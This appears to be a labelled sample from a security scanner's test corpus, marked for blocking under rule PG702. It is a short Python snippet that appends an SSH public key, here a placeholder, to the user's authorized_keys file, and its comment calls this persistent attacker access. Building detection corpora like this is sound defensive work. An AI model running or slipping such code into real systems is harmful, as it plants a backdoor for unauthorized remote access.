# pyguard-corpus: verdict=block category=filesystem rules=PG702
# what: adds an attacker's public key to ~/.ssh/authorized_keys for persistent access
from pathlib import Path

ssh = Path.home() / ".ssh"
ssh.mkdir(mode=0o700, exist_ok=True)
with (ssh / "authorized_keys").open("a") as keys:
    keys.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExample ops@example\n")
